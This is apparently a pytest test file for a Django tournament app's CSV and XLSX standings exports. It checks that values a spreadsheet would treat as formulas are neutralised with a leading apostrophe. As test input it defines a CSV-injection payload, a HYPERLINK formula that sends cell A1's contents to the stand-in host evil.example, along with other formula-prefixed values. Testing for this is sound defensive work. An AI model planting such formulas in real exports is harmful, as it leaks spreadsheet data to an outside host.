"""GET /n/<slug>/standings/?_export=csv|xlsx: tablib downloads, formulas neutralised."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tournaments.public.exports import neutralise
from tournaments.services.couples import couple_update

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _url(night) -> str:
    return f"/n/{night.slug}/standings/"


def _rows_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def test_csv(client, night):
    response = client.get(_url(night), {"_export": "csv", "sort": "number"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="{night.slug}-standings.csv"' in response["Content-Disposition"]
    rows = _rows_csv(response)
    assert rows[0] == ["Place", "Couple", "First player", "Second player", "Wins", "Games won", "Prize"]
    assert rows[1][1:4] == ["1", "Player 1a", "Player 1b"]
    assert len(rows) == 10


def test_formulas_are_neutralised_in_csv(client, night):
    couple_update(night=night, number=1, player1=EVIL, player2="@SUM(1+1)")
    couple_update(night=night, number=2, player1="+1", player2="-2")
    rows = {row[1]: row for row in _rows_csv(client.get(_url(night), {"_export": "csv"}))}
    assert rows["1"][2] == "'" + EVIL and rows["1"][3] == "'@SUM(1+1)"
    assert rows["2"][2:4] == ["'+1", "'-2"]


def test_xlsx_has_no_formula(client, night):
    couple_update(night=night, number=1, player1=EVIL, player2="-2+3")
    response = client.get(_url(night), {"_export": "xlsx", "sort": "number"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet.cell(row=2, column=3).value == "'" + EVIL
    assert sheet.cell(row=2, column=4).value == "'-2+3"


def test_unknown_format_shows_the_page(client, night):
    response = client.get(_url(night), {"_export": "exe"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("Marie", "Marie"), ("", ""), (12, 12), (None, None)],
)
def test_neutralise(value, safe):
    assert neutralise(value) == safe
